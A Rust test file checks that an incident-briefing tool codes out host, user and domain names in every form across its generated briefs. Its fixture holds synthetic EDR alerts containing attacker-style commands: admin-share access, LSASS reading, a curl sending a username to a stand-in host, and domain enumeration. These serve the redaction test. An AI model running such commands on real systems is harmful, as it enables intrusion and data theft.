//! Names under codes: whatever form a name takes in the alerts, no part of it is in a brief or in a working brief.

use std::collections::BTreeSet;
use wg_brief::{Author, Edition, NameChoice};
use wg_engine::Session;
use wg_ingest::Ending;
use wg_protocol::working::{Part, WorkingSpec};
use wg_protocol::{Answer, BriefSpec, BriefVerdict, FileMeta, Query};
use wg_schema::Batch;

fn load(bytes: &[u8]) -> Session {
    let mut session = Session::new(1);
    let meta = FileMeta { name: "northwind-edr.ndjson".into(), size: bytes.len() as u64 };
    session.begin(false, vec![meta.clone()]);
    session.open_source(&meta);
    session.feed(bytes);
    session.close_source(Ending::Complete, None);
    session.rank();
    session
}

/// Everything that can go in goes in, and a person's words name what the alerts name.
fn spec(session: &Session, edition: Edition, words: &str) -> BriefSpec {
    let ranked = session.ranked().expect("a batch");
    let verdict = |i: usize, slug: &str| BriefVerdict {
        uid: ranked.ranking.get(i).map(|id| ranked.incident(*id).uid.clone()).unwrap_or_default(),
        lead: String::new(),
        verdict: slug.into(),
        reason: "Confirmed malicious".into(),
        note: words.into(),
        at: Some(1_795_240_000_000),
    };
    BriefSpec {
        edition,
        names: NameChoice::Replace,
        hide_hashes: true,
        notes: true,
        command_lines: true,
        headline: words.into(),
        headline_by: Author::Person,
        needs: Some(vec![(words.into(), words.into())]),
        verdicts: vec![verdict(0, "tp"), verdict(1, "nd")],
        ..BriefSpec::default()
    }
}

/// The files that would leave, in lower case: both editions of the brief, and the text of the working brief of
/// the first `n` incidents.
fn files(session: &mut Session, words: &str, n: u32) -> Vec<(&'static str, String)> {
    let mut files = Vec::new();
    for (name, edition) in [("hand-over", Edition::HandOver), ("executive", Edition::Executive)] {
        let spec = Box::new(spec(session, edition, words));
        match session.ask(&Query::BriefHtml { spec }) {
            Ok(Answer::Html(html)) => files.push((name, html.to_lowercase())),
            other => panic!("{other:?}"),
        }
    }
    let brief = spec(session, Edition::HandOver, words);
    let spec = Box::new(WorkingSpec { brief, part: Part::Top(n), made_at: 1_795_240_000_000 });
    match session.ask(&Query::WorkingText { spec }) {
        Ok(Answer::Working(written)) => files.push(("working", written.text.to_lowercase())),
        other => panic!("{other:?}"),
    }
    files
}

#[track_caller]
fn check_none_left(files: &[(&str, String)], parts: &BTreeSet<String>) {
    for (name, text) in files {
        assert!(text.len() > 1000, "{name} holds something");
        let left: Vec<&String> = parts.iter().filter(|part| text.contains(part.as_str())).collect();
        assert!(left.is_empty(), "{name}: {left:?}");
    }
}

/// What a name can be told by: itself, a machine's short name and its domain, an account without its domain or mail host.
fn parts(batch: &Batch) -> BTreeSet<String> {
    let mut parts = BTreeSet::new();
    for id in batch.dst_domain.given() {
        let domain = batch.text(id).to_lowercase();
        parts.extend(domain.split('.').map(str::to_owned));
        parts.insert(domain);
    }
    for id in batch.host.given().chain(batch.user.given()) {
        let name = batch.text(id).to_lowercase();
        let cuts = [name.split_once('.'), name.split_once('\\'), name.split_once('@')];
        let halves = cuts.into_iter().flatten().flat_map(|(a, b)| [a.to_owned(), b.to_owned()]);
        parts.extend(halves.chain([name.clone()]));
    }
    // Words of ours are none of theirs: a part that is a word is left to the fixture below.
    let is_telling = |part: &String| {
        part.len() >= 5
            && part.chars().any(char::is_alphanumeric)
            && part.chars().any(|c| !c.is_alphabetic())
            && !["nt authority", "network service", "local service", "www-data"].iter().any(|own| part.starts_with(own))
            && part.parse::<std::net::IpAddr>().is_err()
    };
    parts.into_iter().filter(is_telling).collect()
}

#[test]
fn no_part_of_a_name_of_the_night_leaves() {
    let mut session = load(&wg_sample::night());
    let parts = parts(session.batch().expect("loaded"));
    assert!(parts.len() > 100, "{}", parts.len());
    let files = files(&mut session, "FIN-FS-02 and u.eng.0188 again", 100);
    check_none_left(&files, &parts);
}

/// Alerts whose names are plain words, so that nothing but the code list can know them, each in another form.
fn fixture() -> Vec<u8> {
    let alert = |i: usize, title: &str, host: &str, user: &str, cmd: &str| {
        serde_json::json!({
            "@timestamp": format!("2026-11-20T02:{i:02}:00Z"),
            "event": {"kind": "alert", "severity": 80, "id": format!("payrollsrv-{i}")},
            "rule": {"id": format!("r{i}"), "name": title},
            "message": title,
            "host": {"name": host},
            "user": {"name": user},
            "process": {"name": "net.exe", "command_line": cmd},
            "destination": {"domain": "vault.fabrikam.example", "ip": "198.51.100.23"},
            "threat": {"technique": {"id": ["T1021.002"]}},
        })
        .to_string()
    };
    [
        alert(
            1,
            "Admin share opened",
            "PAYROLLSRV.corp.northwind.example",
            "NORTHWIND\\jsmithson",
            "net use \\\\payrollsrv\\c$ /user:northwind\\JSMITHSON",
        ),
        alert(
            2,
            "pAYROLLsRV: NORTHWIND\\JSmithson read LSASS on PayrollSrv$",
            "payrollsrv",
            "jsmithson@northwind.example",
            "cmd /c echo JSMITHSON>\\\\PAYROLLSRV.CORP.NORTHWIND.EXAMPLE\\c$\\x & curl https://vault.fabrikam.example/?u=jsmithson",
        ),
        alert(
            3,
            "jSMITHSON (jsmithson@northwind.example) signed in to payrollsrv.corp.northwind.example",
            "Payrollsrv",
            "JSmithson",
            "ssh jsmithson@payrollsrv; type C:\\Users\\jsmithson\\pay.xlsx",
        ),
        alert(
            4,
            "corp/jsmithson denied on [payrollsrv] by \"Northwind\" (CORP, 198-51-100-23)",
            "mailgate",
            "svcbackup",
            "svcbackup:x@mailgate C%3A%5CUsers%5CJSmithson & ping 198.51.100.23:443->10.9.8.7:80",
        ),
        // Named in full by the first alert alone, in its parts by the words of this one.
        alert(
            5,
            "Fabrikam: lookup of treasury.fabrikam[.]example, CN=Karin Oldenburg,OU=Board,DC=corp,DC=northwind",
            "treasury-cluster-02.hq7.northwind.example",
            "karin.oldenburg@northwind.example",
            "net group hq7 /domain & echo Oldenburg, Karin; TREASURY-CLUSTE$ \\\\hq7\\sysvol",
        ),
    ]
    .join("\n")
    .into_bytes()
}

#[test]
fn a_name_in_any_form_and_case_is_replaced_in_fields_titles_commands_and_words() {
    let mut session = load(&fixture());
    assert_eq!(session.batch().map(Batch::len), Some(5));
    let words = "Called JSmithson about PAYROLLSRV, then NORTHWIND\\svcbackup@mailgate, vault.Fabrikam.example, Northwind-EDR.ndjson\n\
                 jsmithson\nCorp, HQ7 and Fabrikam; Karin Oldenburg saw hxxps://vault[.]fabrikam[.]example/x on 198.51.100[.]23 (10.9.8.7)";
    let files = files(&mut session, words, u32::MAX);
    let names = [
        "payrollsrv",
        "jsmithson",
        "northwind",
        "fabrikam",
        "svcbackup",
        "mailgate",
        "oldenburg",
        "treasury-cluste",
        "hq7",
        "198.51.100",
        "198-51-100-23",
        "10.9.8.7",
    ];
    check_none_left(&files, &names.map(str::to_owned).into());
    // Three letters may stand in a longer word of ours, or in a code in hex.
    let is_word = |text: &str, word: &str| text.split(|c: char| !c.is_alphanumeric()).any(|own| own == word);
    assert!(files.iter().all(|(_, text)| !is_word(text, "corp")), "corp");
    // And the other way round: kept names are there, so the test looks at the right place.
    let mut kept = spec(&session, Edition::HandOver, words);
    kept.names = NameChoice::Keep;
    match session.ask(&Query::BriefHtml { spec: Box::new(kept) }) {
        Ok(Answer::Html(html)) => assert!(html.to_lowercase().contains("payrollsrv")),
        other => panic!("{other:?}"),
    }
}
